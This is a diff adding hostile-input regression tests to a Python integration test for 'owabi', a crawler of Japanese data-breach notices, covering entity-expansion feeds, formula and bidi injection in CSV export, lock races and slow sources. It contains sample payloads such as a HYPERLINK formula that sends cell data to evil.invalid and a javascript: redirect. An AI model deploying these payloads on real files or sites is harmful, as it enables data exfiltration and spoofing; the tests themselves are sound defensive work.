@@ -7,11 +7,14 @@ No internet: the server listens on 127.0.0.1 (ephemeral port), and the one
 foreign link of the site (other.invalid) must never be followed.  Prints a
 line per failed check and closes with "N passed, M failed"; exits 1 on any
 failure.  Takes about half a minute."""
+import csv
 import fcntl
 import hashlib
+import io
 import json
 import os
 import random
+import resource
 import signal
 import sqlite3
 import subprocess
@@ -26,6 +29,9 @@ DELAY = 0.3        # --delay for the politeness runs
 TOLERANCE = 0.05   # server-side clock slack allowed on a gap
 KILLS = 24         # SIGKILLs in the crash test (the issue asks for at least 20)
 BULK = 40          # notices of the crash-test site
+# Sanitizers and valgrind have their own memory overhead and slowness.
+SANITIZED = bool(os.environ.get("OW_SANITIZED"))
+SLOW = 3 if SANITIZED else 1
 
 passed = failed = 0
 
@@ -74,16 +80,84 @@ def ingest(db, sources, out=None, delay=DELAY, extra=(), env=None):
     return subprocess.run(cmd, capture_output=True, text=True, timeout=120, env=env)
 
 
+class Measured:
+    pass
+
+
+def measured(cmd, timeout=120, limit_as=None, env=None):
+    """Runs cmd; .code is its exit status (or "timeout" when it had to be
+    killed), .out and .err its output, .rss its peak RSS in MB and .secs
+    the time it took.  limit_as caps its address space (bytes), so that a
+    run of the old code that would take all memory fails instead."""
+    m = Measured()
+
+    def limit():
+        if limit_as:
+            resource.setrlimit(resource.RLIMIT_AS, (limit_as, limit_as))
+    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
+        t0 = time.monotonic()
+        p = subprocess.Popen(cmd, stdout=out, stderr=err, stdin=subprocess.DEVNULL, env=env,
+                             preexec_fn=limit)
+        while True:
+            pid, status, usage = os.wait4(p.pid, os.WNOHANG)
+            if pid:
+                m.code = os.waitstatus_to_exitcode(status)
+                m.rss = usage.ru_maxrss // 1024
+                break
+            if time.monotonic() - t0 > timeout:
+                p.kill()
+                _, _, usage = os.wait4(p.pid, 0)
+                m.code, m.rss = "timeout", usage.ru_maxrss // 1024
+                break
+            time.sleep(0.02)
+        p.returncode = m.code
+        m.secs = time.monotonic() - t0
+        out.seek(0)
+        err.seek(0)
+        m.out = out.read().decode("utf-8", "replace")
+        m.err = err.read().decode("utf-8", "replace")
+    return m
+
+
+def write_sources(name, *lines):
+    path = os.path.join(tmp, name)
+    with open(path, "w", encoding="utf-8") as f:
+        f.write("".join(line + "\n" for line in lines))
+    return path
+
+
+def ingest_cmd(db, sources, *extra):
+    return [OWABI, "ingest", "--sources", sources, "--db", db, "--delay", "0",
+            "--allow-private"] + list(extra)
+
+
 def out_lines(path):
-    with open(path, "rb") as f:
-        data = f.read()
+    """The file's bytes and its JSON lines; nothing when there is no file
+    (a failed run: the checks then fail, the test goes on)."""
+    try:
+        with open(path, "rb") as f:
+            data = f.read()
+    except OSError:
+        return b"", []
     return data, [json.loads(line) for line in data.decode("utf-8").splitlines() if line]
 
 
+def db_value(db, sql, *args):
+    """The first column of the first row of sql, or None."""
+    rows = db_query(db, sql, *args)
+    return rows[0][0] if rows else None
+
+
 def db_query(db, sql, *args):
+    """Rows of sql; none when the store is missing or unreadable (a failed
+    run: the checks then fail, the test goes on)."""
+    if not os.path.exists(db):
+        return []
     con = sqlite3.connect(db)
     try:
         return con.execute(sql, args).fetchall()
+    except sqlite3.Error:
+        return []
     finally:
         con.close()
 
@@ -231,8 +305,8 @@ try:
     check(r.returncode == 1 and not os.path.exists(os.path.join(tmp, "none.db")),
           "export of a missing store: exit 1, nothing created")
 
-    # ---- the lock, held by another process -------------------------------------
-    with open(db + ".lock", "a") as lk:
+    # ---- the lock, held by another process (on the database file itself) -------
+    with open(db, "ab") as lk:
         fcntl.flock(lk, fcntl.LOCK_EX | fcntl.LOCK_NB)
         mark = log_mark()
         r = ingest(db, sources, out)
@@ -265,6 +339,280 @@ try:
                        capture_output=True, text=True, env=env)
     check(r.returncode == 0 and os.path.exists(os.path.join(tmp, "xdg", "owabi", "owabi.db")),
           "default store under $XDG_STATE_HOME/owabi/ (%s)" % r.stderr)
+
+    # ---- hostile sites and careless operators (issue 12) -------------------------
+    # Each check below failed on the code before the fix it comes with.
+
+    # 1. Feeds, an Atom href and a sitemap loc whose DTD expands to a gigabyte
+    # (one 200 KB entity used 5,000 times) stay within 256 MB; the notice
+    # they link to is still found.
+    edb = os.path.join(tmp, "entity.db")
+    r = measured(ingest_cmd(edb, write_sources("entity.txt", BASE + "/hostile/entity.rss",
+                                               BASE + "/hostile/entity.atom",
+                                               BASE + "/hostile/entity-sitemap.xml")),
+                 timeout=120 * SLOW)
+    check(r.code == 0, "entity feeds: exit 0 (exit %s: %r)" % (r.code, r.err[:300]))
+    check(SANITIZED or r.rss < 256, "entity feeds: peak RSS %d MB (budget 256)" % r.rss)
+    rows = db_query(edb, "SELECT p.url FROM records r JOIN pages p ON p.id = r.page_id") \
+        if os.path.exists(edb) else []
+    check(rows == [(BASE + "/hostile/notice.html",)], "entity feeds: the notice is stored: %s" % rows)
+    print("entity feeds: peak RSS %d MB in %.1fs" % (r.rss, r.secs))
+
+    # 2. The sources file is capped: /dev/zero ends at once with a reason
+    # (without the cap it grew by gigabytes; under a memory limit it said
+    # "no source URL in it").
+    hdb = os.path.join(tmp, "hostile.db")
+    r = measured(ingest_cmd(hdb, "/dev/zero"), timeout=30,
+                 limit_as=None if SANITIZED else 2 << 30)
+    check(r.code == 2 and r.err == "owabi: /dev/zero: larger than 4194304 bytes: not a list of URLs\n",
+          "--sources /dev/zero: exit 2 naming the cap (exit %s: %r)" % (r.code, r.err[:200]))
+    check(SANITIZED or r.rss < 64, "--sources /dev/zero: peak RSS %d MB" % r.rss)
+    longline = write_sources("long.txt", BASE + "/" + "a" * 9000)
+    r = measured(ingest_cmd(hdb, longline))
+    check(r.code == 2 and r.err == "owabi: %s:1: line longer than 8192 bytes\n" % longline,
+          "a 9 KB line: exit 2 naming the line (%r)" % r.err[:200])
+    # A UTF-8 BOM before the first URL is no part of it.
+    bom = os.path.join(tmp, "bom.txt")
+    with open(bom, "wb") as f:
+        f.write(b"\xef\xbb\xbf" + (BASE + "/hostile/notice.html\n").encode())
+    r = measured(ingest_cmd(hdb, bom))
+    check(r.code == 0, "sources with a BOM: exit 0 (exit %s: %r)" % (r.code, r.err))
+    # A NUL inside a line: the line is refused, by number, not cut there.
+    nul = os.path.join(tmp, "nul.txt")
+    with open(nul, "wb") as f:
+        f.write((BASE + "/hostile/notice.html\n" + BASE + "/news/").encode() + b"\0junk\n")
+    r = measured(ingest_cmd(hdb, nul))
+    check(r.code == 2 and r.err == "owabi: %s:2: NUL byte in the line\n" % nul,
+          "a NUL in line 2: exit 2 naming it (%r)" % r.err)
+
+    # 3. CSV export: a title that is a formula is exported as text, with a
+    # leading apostrophe; so are +, -, @, tab and CR.  (7.) Controls and bidi
+    # overrides a record may hold (one stored by an older owabi) are shown
+    # as <U+XXXX>.  More titles are added as revisions of the same page.
+    fdb = os.path.join(tmp, "formula.db")
+    r = measured(ingest_cmd(fdb, write_sources("formula.txt", BASE + "/hostile/formula.html")))
+    check(r.code == 0, "formula page: exit 0 (exit %s: %r)" % (r.code, r.err))
+    page_id, rec_json = (db_query(fdb, "SELECT page_id, json FROM records") or [(0, "{}")])[0]
+    titles = ["+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "\u202eRLO\u009b31m\u2066",
+              "plain - text"]
+    con = sqlite3.connect(fdb)
+    for i, t in enumerate(titles):
+        rec = json.loads(rec_json)
+        rec["notice"]["title"] = t
+        con.execute("INSERT INTO records(page_id, revision, sha256, json, created_at)"
+                    " VALUES(?, ?, 'x', ?, '2026-01-01T00:00:00Z')", (page_id, i + 2, json.dumps(rec)))
+    con.commit()
+    con.close()
+    r = subprocess.run([OWABI, "export", "--db", fdb, "--format", "csv", "--all"], capture_output=True)
+    rows = list(csv.reader(io.StringIO(r.stdout.decode("utf-8"), newline="")))
+    want = ["'=HYPERLINK(\"http://evil.invalid/?\"&A1,\"不正アクセスによる個人情報漏えいに関するお詫び\")",
+            "'+SUM(A1:A9)", "'-2+3", "'@SUM(A1)", "'\tTAB", "'\rCR", "<U+202E>RLO<U+009B>31m<U+2066>",
+            "plain - text"]
+    check(r.returncode == 0 and [row[8] for row in rows[1:]] == want,
+          "csv titles neutralised: %s" % [row[8] for row in rows[1:]])
+    check(rows and all(row[6] == "株式会社つばめ商事" for row in rows[1:]), "csv organization column")
+    check(b"\xe2\x80\xae" not in r.stdout and b"\xc2\x9b" not in r.stdout,
+          "csv: no raw U+202E or U+009B")
+    rb = subprocess.run([OWABI, "export", "--db", fdb, "--format", "csv", "--all", "--bom"],
+                        capture_output=True)
+    check(rb.returncode == 0 and rb.stdout == b"\xef\xbb\xbf" + r.stdout,
+          "csv --bom: a UTF-8 BOM, then the same bytes")
+    rb = subprocess.run([OWABI, "export", "--db", fdb, "--bom"], capture_output=True, text=True)
+    check(rb.returncode == 2 and "--bom goes with --format csv" in rb.stderr, "--bom with jsonl: exit 2")
+    r = subprocess.run([OWABI, "export", "--help"], capture_output=True, text=True)
+    check("--bom" in r.stdout and "apostrophe" in r.stdout, "export --help: --bom and the apostrophe")
+
+    # 7. Controls and bidi overrides in a page (raw, and as character
+    # references) stay out of the record: title, name, quotes, everything.
+    cdb = os.path.join(tmp, "controls.db")
+    r = measured(ingest_cmd(cdb, write_sources("controls.txt", BASE + "/hostile/controls.html")))
+    check(r.code == 0, "controls page: exit 0 (exit %s: %r)" % (r.code, r.err))
+    recs = [json.loads(x) for (x,) in db_query(cdb, "SELECT json FROM records")]
+
+    def strings(x):
+        if isinstance(x, str):
+            yield x
+        elif isinstance(x, dict):
+            for v in x.values():
+                yield from strings(v)
+        elif isinstance(x, list):
+            for v in x:
+                yield from strings(v)
+    bad = [t for rec in recs for t in strings(rec) if any(c in t for c in "\u202e\u2066\u009b\u009d")]
+    check(len(recs) == 1 and not bad, "controls kept out of the record: %s" % bad)
+    check(recs and recs[0]["notice"]["title"] == "不正アクセスによる31m個人情報漏えいに関するお詫び"
+          and recs[0]["organization"]["name"] == "株式会社ひばり運輸",
+          "controls page: title and name without them: %s" % [(x["notice"]["title"], x["organization"]["name"]) for x in recs])
+
+    # A record whose stored JSON is corrupt is named, left out, and exit 1
+    # (it was printed as it was, exit 0).
+    bad_id = db_value(fdb, "SELECT id FROM records WHERE revision = 3") or 0
+    con = sqlite3.connect(fdb)
+    con.execute("UPDATE records SET json = '{\"source\": {\"url\": ' WHERE id = ?", (bad_id,))
+    con.commit()
+    con.close()
+    for fmt, lines in (("jsonl", 7), ("csv", 8)):
+        r = subprocess.run([OWABI, "export", "--db", fdb, "--all", "--format", fmt], capture_output=True)
+        r.stdout, r.stderr = r.stdout.decode("utf-8"), r.stderr.decode("utf-8")
+        err = r.stderr.splitlines()
+        check(r.returncode == 1 and len(err) == 1 and err[0].startswith(
+            "owabi: %s: record %d (%s/hostile/formula.html revision 3) is corrupt: " % (fdb, bad_id, BASE)),
+              "export %s of a corrupt record: exit 1 naming it (exit %d: %r)" % (fmt, r.returncode, r.stderr))
+        got = len(list(csv.reader(io.StringIO(r.stdout, newline="")))) if fmt == "csv" \
+            else len(r.stdout.splitlines())
+        check(got == lines, "export %s: the other records still printed (%d lines)" % (fmt, got))
+
+    # 4. --out never deletes lines it did not write: lines appended by another
+    # program (owabi parse --jsonl >> FILE) survive the next run, which used
+    # to cut the file back to the length the store vouched for.
+    odb = os.path.join(tmp, "out.db")
+    oout = os.path.join(tmp, "out.jsonl")
+    osrc = write_sources("out.txt", BASE + "/hostile/notice.html", BASE + "/hostile/formula.html")
+    r = measured(ingest_cmd(odb, osrc, "--out", oout))
+    data1, recs1 = out_lines(oout)
+    check(r.code == 0 and len(recs1) == 2, "--out: two records (%s: %r)" % (r.code, r.err))
+    fixtures = os.path.join(os.path.dirname(os.path.dirname(HERE)), "fixtures")
+    with open(oout, "ab") as f:
+        subprocess.run([OWABI, "parse", "--jsonl", os.path.join(fixtures, "loss-usb.txt"),
+                        os.path.join(fixtures, "era-dates.txt")], stdout=f, check=True)
+    appended = open(oout, "rb").read()
+    check(appended.count(b"\n") == 4, "two lines appended by owabi parse")
+    r = measured(ingest_cmd(odb, osrc, "--out", oout))
+    check(r.code == 0 and open(oout, "rb").read() == appended,
+          "--out: a run with nothing new keeps the appended lines (%d lines now)"
+          % open(oout, "rb").read().count(b"\n"))
+    # Another writer's unfinished last line is kept, and ended, before ours.
+    with open(oout, "ab") as f:
+        f.write(b'{"partial": ')
+    osrc = write_sources("out.txt", BASE + "/hostile/notice.html", BASE + "/hostile/formula.html",
+                         BASE + "/hostile/controls.html")
+    r = measured(ingest_cmd(odb, osrc, "--out", oout))
+    now = open(oout, "rb").read()
+    check(r.code == 0 and now.startswith(appended + b'{"partial": \n') and now.count(b"\n") == 6
+          and json.loads(now.splitlines()[-1])["source"]["url"] == BASE + "/hostile/controls.html",
+          "--out: a foreign partial line is kept and ended; the new record is a line of its own")
+    # A run killed after writing a line but before marking it: the next run
+    # marks the line instead of writing it again.
+    last_id = db_value(odb, "SELECT max(id) FROM records") or 0
+    last_len = len(now.splitlines(True)[-1])
+
+    def killed_state():
+        con = sqlite3.connect(odb)
+        con.execute("UPDATE records SET out_pending = ? WHERE id = ?", (oout, last_id))
+        con.execute("UPDATE outputs SET committed_len = ?", (len(now) - last_len,))
+        con.commit()
+        con.close()
+    killed_state()
+    r = measured(ingest_cmd(odb, osrc, "--out", oout))
+    check(r.code == 0 and open(oout, "rb").read() == now, "--out: a written, unmarked line is not repeated")
+    check(db_value(odb, "SELECT count(*) FROM records WHERE out_pending IS NOT NULL") == 0,
+          "--out: the unmarked line is marked")
+    # ... and killed in the middle of the write: the torn start of its own
+    # line is cut off and the line written whole.
+    with open(oout, "r+b") as f:
+        f.truncate(len(now) - last_len // 2)
+    killed_state()
+    r = measured(ingest_cmd(odb, osrc, "--out", oout))
+    check(r.code == 0 and open(oout, "rb").read() == now, "--out: a torn own line is written again whole")
+
+    # 5. The lock is the database file's, not a name's: a run through a
+    # symlink to a store in use is refused (both ran at once and wrote
+    # duplicate lines and revisions).
+    ldb = os.path.join(tmp, "lock.db")
+    link = os.path.join(tmp, "locklink.db")
+    os.symlink(ldb, link)
+    slow = write_sources("slow.txt", BASE + "/hostile/sleep?s=3")
+    first = subprocess.Popen(ingest_cmd(ldb, slow), stdout=subprocess.DEVNULL,
+                             stderr=subprocess.PIPE, text=True)
+    time.sleep(1.0)
+    r = measured(ingest_cmd(link, slow))
+    check(r.code == 3 and r.err == "owabi: %s: another ingest run holds the store\n" % link,
+          "a second run through a symlink: exit 3 (exit %s: %r)" % (r.code, r.err))
+    _, err = first.communicate(timeout=60)
+    check(first.returncode == 0, "the first run finishes (exit %d: %r)" % (first.returncode, err))
+
+    # 6. --max-time ends a run that a source sending one byte a second would
+    # hold for as long as it likes; one line says why; the store is sound.
+    tdb = os.path.join(tmp, "trickle.db")
+    trickle = write_sources("trickle.txt", BASE + "/hostile/trickle")
+    r = measured(ingest_cmd(tdb, trickle, "--max-time", "3", "--quiet"), timeout=60)
+    check(r.code == 1 and r.err == "owabi: ingest stopped: time limit of 3 s reached: 1 request left"
+          " for the next run (--max-time)\n", "--max-time 3: exit 1, one line (exit %s: %r)" % (r.code, r.err))
+    check(r.secs < 3 + 2 * SLOW, "--max-time 3: the run ended in %.1fs" % r.secs)
+    check(db_query(tdb, "SELECT status FROM runs") == [("stopped",)], "the run is recorded as stopped")
+    check(db_query(tdb, "PRAGMA integrity_check") == [("ok",)], "the store is sound after --max-time")
+    # What is not done by then is left for the next run, and done by it.
+    mdb = os.path.join(tmp, "maxtime.db")
+    mout = os.path.join(tmp, "maxtime.jsonl")
+    msrc = write_sources("maxtime.txt", BASE + "/bulk/")
+    r = measured(ingest_cmd(mdb, msrc, "--out", mout, "--delay", "0.5", "--max-time", "2"), timeout=60)
+    first_n = db_value(mdb, "SELECT count(*) FROM records") or 0
+    check(r.code == 1 and "requests left for the next run (--max-time)" in r.err and 0 < first_n < BULK,
+          "--max-time 2 over %d notices: exit 1, %d stored" % (BULK, first_n))
+    r = measured(ingest_cmd(mdb, msrc, "--out", mout, "--connect-timeout", "5", "--timeout", "30"))
+    _, recs = out_lines(mout)
+    check(r.code == 0 and db_value(mdb, "SELECT count(*) FROM records") == BULK and len(recs) == BULK,
+          "the next run does the rest: %s records, %d lines (%s: %r)"
+          % (db_value(mdb, "SELECT count(*) FROM records"), len(recs), r.code, r.err))
+    # --timeout and --connect-timeout, as parse has them.
+    r = measured(ingest_cmd(tdb, trickle, "--timeout", "2", "--max-time", "0"), timeout=60)
+    check(r.code == 1 and "trickle: failed: deadline of 2000 ms exceeded" in r.err and r.secs < 2 + 3 * SLOW,
+          "--timeout 2: the page fails at its deadline (%s in %.1fs: %r)" % (r.code, r.secs, r.err))
+    for bad in (["--max-time", "soon"], ["--timeout", "0"], ["--connect-timeout", "-1"]):
+        r = measured(ingest_cmd(tdb, trickle, *bad))
+        check(r.code == 2, "%s: exit 2" % " ".join(bad))
+    r = subprocess.run([OWABI, "ingest", "--help"], capture_output=True, text=True)
+    check(all(o in r.stdout for o in ("--max-time SEC", "--timeout SEC", "--connect-timeout SEC")),
+          "ingest --help documents --max-time, --timeout, --connect-timeout")
+
+    # 8. A 3 MB robots.txt whose first group allows owabi everything: read up
+    # to 512 KiB as RFC 9309 allows (its late "Disallow: /news/" for owabi
+    # goes unread), not "unreachable" for being over 2 MB.
+    LOG2 = os.path.join(tmp, "requests-big-robots.jsonl")
+    big = subprocess.Popen([sys.executable, os.path.join(HERE, "server.py"), LOG2, "--big-robots", "3"],
+                           stdout=subprocess.PIPE, text=True)
+    try:
+        base2 = "http://127.0.0.1:%s" % big.stdout.readline().strip()
+        bdb = os.path.join(tmp, "bigrobots.db")
+        r = measured(ingest_cmd(bdb, write_sources("bigrobots.txt", base2 + "/news/")))
+        check(r.code == 0, "3 MB robots.txt: exit 0 (exit %s: %r)" % (r.code, r.err))
+        rows = db_query(bdb, "SELECT p.url FROM records r JOIN pages p ON p.id = r.page_id")
+        check(rows == [(base2 + "/news/2025/0312-owabi.html",)], "3 MB robots.txt: the notice is stored: %s" % rows)
+        body = db_query(bdb, "SELECT length(body) FROM robots")
+        check(body == [(512 * 1024 + 1,)], "robots.txt: only its head was kept: %s" % body)
+    finally:
+        big.terminate()
+        big.wait()
+
+    # A redirect to javascript: or data: is reported with its target (it was
+    # reported with the URL asked for).
+    rdb = os.path.join(tmp, "redirect.db")
+    r = measured(ingest_cmd(rdb, write_sources("redirect.txt", BASE + "/hostile/to-js",
+                                               BASE + "/hostile/to-data")))
+    check(r.code == 1 and ("owabi: %s/hostile/to-js: failed: redirect to a non-HTTP scheme refused: "
+                           "javascript:alert(document.domain)" % BASE) in r.err
+          and ("owabi: %s/hostile/to-data: failed: redirect to a non-HTTP scheme refused: data:text/html"
+               % BASE) in r.err, "redirects to javascript: and data: name their target: %r" % r.err)
+
+    # robots.txt disallows /members/ for owabi: links that reach it through
+    # "/%2E/" or "%2E%2E" are not followed (one was fetched).
+    ddb = os.path.join(tmp, "dots.db")
+    mark = log_mark()
+    r = measured(ingest_cmd(ddb, write_sources("dots.txt", BASE + "/hostile/dots/")))
+    paths = [q["path"] for q in requests(mark)]
+    check(r.code == 0 and "2 skipped by robots.txt" in r.err, "dot-segment links skipped: %r" % r.err)
+    check(not any("members" in p for p in paths), "no request for /members/ by any spelling: %s" % paths)
+
+    # .xml.gz sitemaps, as application/gzip and application/x-gzip, are read
+    # (they were refused as an unsupported content type).
+    gdb = os.path.join(tmp, "gz.db")
+    r = measured(ingest_cmd(gdb, write_sources("gz.txt", BASE + "/hostile/sitemap.xml.gz",
+                                               BASE + "/hostile/sitemap-x.xml.gz")))
+    check(r.code == 0, "gzip sitemaps: exit 0 (exit %s: %r)" % (r.code, r.err))
+    rows = db_query(gdb, "SELECT p.url FROM records r JOIN pages p ON p.id = r.page_id")
+    check(rows == [(BASE + "/hostile/gz-notice.html",)], "gzip sitemaps: the notice is stored: %s" % rows)
+    kinds = db_query(gdb, "SELECT kind FROM pages WHERE url LIKE '%.xml.gz' ORDER BY url")
+    check(kinds == [("sitemap",), ("sitemap",)], "gzip sitemaps are kind sitemap: %s" % kinds)
 
     # ---- crash safety: SIGKILL at random moments ------------------------------
     rng = random.Random(int(os.environ.get("OWABI_TEST_SEED", "4")))
